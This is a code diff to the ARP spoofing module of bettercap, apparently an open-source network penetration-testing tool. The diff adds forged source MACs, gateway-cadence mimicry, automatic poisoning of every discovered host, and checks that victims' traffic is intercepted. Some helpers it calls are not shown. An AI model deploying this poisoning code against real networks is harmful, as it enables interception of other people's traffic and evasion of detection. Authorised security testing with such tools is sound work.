@@ -2,27 +2,50 @@ package modules
 
 import (
 	"bytes"
+	"fmt"
 	"net"
+	"strings"
 	"sync"
+	"sync/atomic"
 	"time"
 
-	"github.com/bettercap/bettercap/log"
+	"github.com/bettercap/bettercap/core"
 	"github.com/bettercap/bettercap/network"
 	"github.com/bettercap/bettercap/packets"
 	"github.com/bettercap/bettercap/session"
 
+	"github.com/google/gopacket"
+	"github.com/google/gopacket/layers"
+	"github.com/google/gopacket/pcap"
 	"github.com/malfunkt/iprange"
 )
 
+// special arp.spoof.targets value to only spoof the hosts found by net.recon
+const arpAllTargets = "all"
+
 type ArpSpoofer struct {
 	session.SessionModule
-	addresses  []net.IP
-	macs       []net.HardwareAddr
-	wAddresses []net.IP
-	wMacs      []net.HardwareAddr
-	internal   bool
-	ban        bool
-	waitGroup  *sync.WaitGroup
+	addresses     []net.IP
+	macs          []net.HardwareAddr
+	wAddresses    []net.IP
+	wMacs         []net.HardwareAddr
+	internal      bool
+	ban           bool
+	srcMAC        net.HardwareAddr
+	interval      time.Duration
+	learned       int64
+	adaptive      bool
+	auto          bool
+	autoTargets   *arpAutoTargets
+	autoQuit      chan bool
+	cadence       *arpCadence
+	trigger       chan bool
+	handle        *pcap.Handle
+	pktSourceChan chan gopacket.Packet
+	waitGroup     *sync.WaitGroup
+	verify        bool
+	verifyEvery   time.Duration
+	verifier      *arpVerifier
 }
 
 func NewArpSpoofer(s *session.Session) *ArpSpoofer {
@@ -34,10 +57,16 @@ func NewArpSpoofer(s *session.Session) *ArpSpoofer {
 		wMacs:         make([]net.HardwareAddr, 0),
 		ban:           false,
 		internal:      false,
+		interval:      time.Second,
+		trigger:       make(chan bool, 1),
+		autoTargets:   newArpAutoTargets(),
+		autoQuit:      nil,
 		waitGroup:     &sync.WaitGroup{},
 	}
 
-	p.AddParam(session.NewStringParameter("arp.spoof.targets", session.ParamSubnet, "", "Comma separated list of IP addresses, MAC addresses or aliases to spoof, also supports nmap style IP ranges."))
+	p.AddLogParams()
+
+	p.AddParam(session.NewStringParameter("arp.spoof.targets", session.ParamSubnet, "", "Comma separated list of IP addresses, MAC addresses or aliases to spoof, also supports nmap style IP ranges, or 'all' to spoof every host known by net.recon (same as arp.spoof.auto without other targets)."))
 
 	p.AddParam(session.NewStringParameter("arp.spoof.whitelist", "", "", "Comma separated list of IP addresses, MAC addresses or aliases to skip while spoofing."))
 
@@ -45,6 +74,31 @@ func NewArpSpoofer(s *session.Session) *ArpSpoofer {
 		"false",
 		"If true, local connections among computers of the network will be spoofed, otherwise only connections going to and coming from the external network."))
 
+	p.AddParam(session.NewStringParameter("arp.spoof.srcmac",
+		"",
+		`^$|^[a-fA-F0-9]{2}(:[a-fA-F0-9]{2}){5}$`,
+		"If not empty, use this MAC address (or '"+session.ParamRandomMAC+"') as the Ethernet and ARP sender address of spoofed packets instead of the interface one."))
+
+	p.AddParam(session.NewIntParameter("arp.spoof.interval",
+		"1000",
+		"Milliseconds to wait between each round of spoofed ARP packets."))
+
+	p.AddParam(session.NewBoolParameter("arp.spoof.adaptive",
+		"false",
+		"If true, learn how often the real gateway sends ARP packets and use the same cadence instead of arp.spoof.interval, also re-poisoning the targets right after each legit gateway packet."))
+
+	p.AddParam(session.NewBoolParameter("arp.spoof.auto",
+		"false",
+		"If true, every new host discovered by net.recon (minus the whitelisted ones) is spoofed too, and restored once it's lost."))
+
+	p.AddParam(session.NewBoolParameter("arp.spoof.verify",
+		"false",
+		"If true, periodically check that the targets send their gateway traffic to us, emitting arp.spoof.confirmed or arp.spoof.failed when a target state changes."))
+
+	p.AddParam(session.NewIntParameter("arp.spoof.verify.interval",
+		"30",
+		"Seconds between each round of arp.spoof.verify probes."))
+
 	p.AddHandler(session.NewModuleHandler("arp.spoof on", "",
 		"Start ARP spoofer.",
 		func(args []string) error {
@@ -85,10 +139,30 @@ func (p ArpSpoofer) Author() string {
 	return "Simone Margaritelli <evilsocket@protonmail.com>"
 }
 
+// checkInternalTargets makes sure that the whole subnet spoofed with
+// arp.spoof.internal is within the main.targets.max limit, along with the
+// configured targets.
+func (p *ArpSpoofer) checkInternalTargets() error {
+	if !p.internal {
+		return nil
+	}
+
+	list, err := iprange.ParseList(p.Session.Interface.CIDR())
+	if err != nil {
+		return err
+	}
+	// minus the network and broadcast addresses
+	neighbours := network.RangeSize(list) - 2
+	return p.Session.CheckTargets("arp.spoof", len(p.addresses)+len(p.macs)+neighbours)
+}
+
 func (p *ArpSpoofer) Configure() error {
 	var err error
 	var targets string
 	var whitelist string
+	var srcMAC string
+	var interval int
+	var verifyEvery int
 
 	if err, p.internal = p.BoolParam("arp.spoof.internal"); err != nil {
 		return err
@@ -96,19 +170,57 @@ func (p *ArpSpoofer) Configure() error {
 		return err
 	} else if err, whitelist = p.StringParam("arp.spoof.whitelist"); err != nil {
 		return err
-	} else if p.addresses, p.macs, err = network.ParseTargets(targets, p.Session.Lan.Aliases()); err != nil {
+	} else if err, p.auto = p.BoolParam("arp.spoof.auto"); err != nil {
+		return err
+	}
+
+	if strings.ToLower(core.Trim(targets)) == arpAllTargets {
+		// no scan of the subnet, just whatever net.recon finds
+		targets = ""
+		p.auto = true
+	}
+
+	if p.addresses, p.macs, err = p.Session.ParseTargets("arp.spoof", targets); err != nil {
+		return err
+	} else if err = p.checkInternalTargets(); err != nil {
 		return err
 	} else if p.wAddresses, p.wMacs, err = network.ParseTargets(whitelist, p.Session.Lan.Aliases()); err != nil {
 		return err
+	} else if err, srcMAC = p.StringParam("arp.spoof.srcmac"); err != nil {
+		return err
+	} else if p.srcMAC, err = parseSourceMAC(srcMAC); err != nil {
+		return err
+	} else if err, interval = p.IntParam("arp.spoof.interval"); err != nil {
+		return err
+	} else if err, p.adaptive = p.BoolParam("arp.spoof.adaptive"); err != nil {
+		return err
+	} else if err, p.verify = p.BoolParam("arp.spoof.verify"); err != nil {
+		return err
+	} else if err, verifyEvery = p.IntParam("arp.spoof.verify.interval"); err != nil {
+		return err
+	}
+
+	if interval < 1 {
+		return fmt.Errorf("arp.spoof.interval must be greater than 0")
+	} else if p.verify && verifyEvery < 1 {
+		return fmt.Errorf("arp.spoof.verify.interval must be greater than 0")
 	}
+	p.verifyEvery = time.Duration(verifyEvery) * time.Second
+	p.interval = time.Duration(interval) * time.Millisecond
+	p.cadence = nil
+	atomic.StoreInt64(&p.learned, 0)
 
-	log.Debug(" addresses=%v macs=%v whitelisted-addresses=%v whitelisted-macs=%v", p.addresses, p.macs, p.wAddresses, p.wMacs)
+	if p.srcMAC != nil && !p.ban {
+		p.Warning("Spoofed hosts will send their traffic to %s, the interface must be in promiscuous mode to receive it and it won't be forwarded by the kernel.", p.srcMAC)
+	}
+
+	p.Debug(" addresses=%v macs=%v whitelisted-addresses=%v whitelisted-macs=%v", p.addresses, p.macs, p.wAddresses, p.wMacs)
 
 	if p.ban {
-		log.Warning("Running in BAN mode, forwarding not enabled!")
+		p.Warning("Running in BAN mode, forwarding not enabled!")
 		p.Session.Firewall.EnableForwarding(false)
 	} else if !p.Session.Firewall.IsForwardingEnabled() {
-		log.Info("Enabling forwarding.")
+		p.Info("Enabling forwarding.")
 		p.Session.Firewall.EnableForwarding(true)
 	}
 
@@ -129,17 +241,38 @@ func (p *ArpSpoofer) Start() error {
 			neighbours = list.Expand()
 			nNeigh := len(neighbours) - 2
 
-			log.Warning("ARP spoofer started targeting %d possible network neighbours of %d targets.", nNeigh, nTargets)
+			p.Warning("ARP spoofer started targeting %d possible network neighbours of %d targets.", nNeigh, nTargets)
 		} else {
-			log.Info("ARP spoofer started, probing %d targets.", nTargets)
+			p.Info("ARP spoofer started, probing %d targets.", nTargets)
 		}
 
 		p.waitGroup.Add(1)
 		defer p.waitGroup.Done()
 
+		if p.auto {
+			p.startAutoTargets()
+		}
+
+		if p.adaptive {
+			if err := p.startGatewayObserver(); err != nil {
+				p.Error("could not observe the gateway ARP traffic, using a fixed interval: %s", err)
+			} else {
+				p.Info("learning the gateway ARP cadence, using %s until then.", p.interval)
+			}
+		}
+
+		if p.verify {
+			if err := p.startVerifier(); err != nil {
+				p.Error("could not start the ARP spoofing verification: %s", err)
+			}
+		}
+
 		gwIP := p.Session.Gateway.IP
 		myMAC := p.Session.Interface.HW
-		for p.Running() {
+		if p.srcMAC != nil {
+			myMAC = p.srcMAC
+		}
+		for p.WaitIfPaused() {
 			p.sendArp(gwIP, myMAC, true, false)
 			for _, address := range neighbours {
 				if !p.Session.Skip(address) {
@@ -147,22 +280,26 @@ func (p *ArpSpoofer) Start() error {
 				}
 			}
 
-			time.Sleep(1 * time.Second)
+			p.wait()
 		}
 	})
 }
 
 func (p *ArpSpoofer) unSpoof() error {
 	nTargets := len(p.addresses) + len(p.macs)
-	log.Info("restoring ARP cache of %d targets.", nTargets)
+	p.autoTargets.Each(func(ip string, mac net.HardwareAddr) {
+		nTargets++
+	})
+	p.Info("restoring ARP cache of %d targets.", nTargets)
 	p.sendArp(p.Session.Gateway.IP, p.Session.Gateway.HW, false, false)
+	p.autoTargets.Clear()
 
 	if p.internal {
 		list, _ := iprange.ParseList(p.Session.Interface.CIDR())
 		neighbours := list.Expand()
 		for _, address := range neighbours {
 			if !p.Session.Skip(address) {
-				if realMAC, err := findMAC(p.Session, address, false); err == nil {
+				if realMAC, err := findMAC(&p.SessionModule, address, false); err == nil {
 					p.sendArp(address, realMAC, false, false)
 				}
 			}
@@ -174,7 +311,10 @@ func (p *ArpSpoofer) unSpoof() error {
 
 func (p *ArpSpoofer) Stop() error {
 	return p.SetRunning(false, func() {
-		log.Info("waiting for ARP spoofer to stop ...")
+		p.Info("waiting for ARP spoofer to stop ...")
+		p.stopGatewayObserver()
+		p.stopVerifier()
+		p.stopAutoTargets()
 		p.unSpoof()
 		p.ban = false
 		p.waitGroup.Wait()
@@ -197,21 +337,20 @@ func (p *ArpSpoofer) isWhitelisted(ip string, mac net.HardwareAddr) bool {
 	return false
 }
 
-func (p *ArpSpoofer) sendArp(saddr net.IP, smac net.HardwareAddr, check_running bool, probe bool) {
-	p.waitGroup.Add(1)
-	defer p.waitGroup.Done()
-
+// targets resolves the configured and automatic targets to their IP and
+// hardware addresses.
+func (p *ArpSpoofer) targets(probe bool) map[string]net.HardwareAddr {
 	targets := make(map[string]net.HardwareAddr)
 	for _, ip := range p.addresses {
 		if p.Session.Skip(ip) {
-			log.Debug("Skipping address %s from ARP spoofing.", ip)
+			p.Debug("Skipping address %s from ARP spoofing.", ip)
 			continue
 		}
 
 		// do we have this ip mac address?
-		hw, err := findMAC(p.Session, ip, probe)
+		hw, err := findMAC(&p.SessionModule, ip, probe)
 		if err != nil {
-			log.Debug("Could not find hardware address for %s, retrying in one second.", ip.String())
+			p.Debug("Could not find hardware address for %s, retrying in one second.", ip.String())
 			continue
 		}
 
@@ -221,33 +360,56 @@ func (p *ArpSpoofer) sendArp(saddr net.IP, smac net.HardwareAddr, check_running
 	for _, hw := range p.macs {
 		ip, err := network.ArpInverseLookup(p.Session.Interface.Name(), hw.String(), false)
 		if err != nil {
-			log.Warning("Could not find IP address for %s, retrying in one second.", hw.String())
+			p.Warning("Could not find IP address for %s, retrying in one second.", hw.String())
 			continue
 		}
 
 		if p.Session.Skip(net.ParseIP(ip)) {
-			log.Debug("Skipping address %s from ARP spoofing.", ip)
+			p.Debug("Skipping address %s from ARP spoofing.", ip)
 			continue
 		}
 
 		targets[ip] = hw
 	}
 
-	for ip, mac := range targets {
+	p.autoTargets.Each(func(ip string, hw net.HardwareAddr) {
+		if !p.Session.Skip(net.ParseIP(ip)) {
+			targets[ip] = hw
+		}
+	})
+
+	return targets
+}
+
+func (p *ArpSpoofer) sendArp(saddr net.IP, smac net.HardwareAddr, check_running bool, probe bool) {
+	p.waitGroup.Add(1)
+	defer p.waitGroup.Done()
+
+	for ip, mac := range p.targets(probe) {
 		if check_running && !p.Running() {
 			return
 		} else if p.isWhitelisted(ip, mac) {
-			log.Debug("%s (%s) is whitelisted, skipping from spoofing loop.", ip, mac)
+			p.Debug("%s (%s) is whitelisted, skipping from spoofing loop.", ip, mac)
 			continue
 		} else if saddr.String() == ip {
 			continue
 		}
 
-		if err, pkt := packets.NewARPReply(saddr, smac, net.ParseIP(ip), mac); err != nil {
-			log.Error("Error while creating ARP spoof packet for %s: %s", ip, err)
-		} else {
-			log.Debug("Sending %d bytes of ARP packet to %s:%s.", len(pkt), ip, mac.String())
-			p.Session.Queue.Send(pkt)
-		}
+		p.sendArpTo(saddr, smac, ip, mac)
+	}
+}
+
+func (p *ArpSpoofer) sendArpTo(saddr net.IP, smac net.HardwareAddr, ip string, mac net.HardwareAddr) {
+	eth, arp := packets.NewARPTo(saddr, smac, net.ParseIP(ip), mac, layers.ARPReply)
+	if p.srcMAC != nil {
+		// when restoring the ARP cache only the ethernet sender is forged
+		eth.SrcMAC = p.srcMAC
+	}
+
+	if err, pkt := packets.Serialize(&eth, &arp); err != nil {
+		p.Error("Error while creating ARP spoof packet for %s: %s", ip, err)
+	} else {
+		p.Debug("Sending %d bytes of ARP packet to %s:%s.", len(pkt), ip, mac.String())
+		p.Send(pkt)
 	}
 }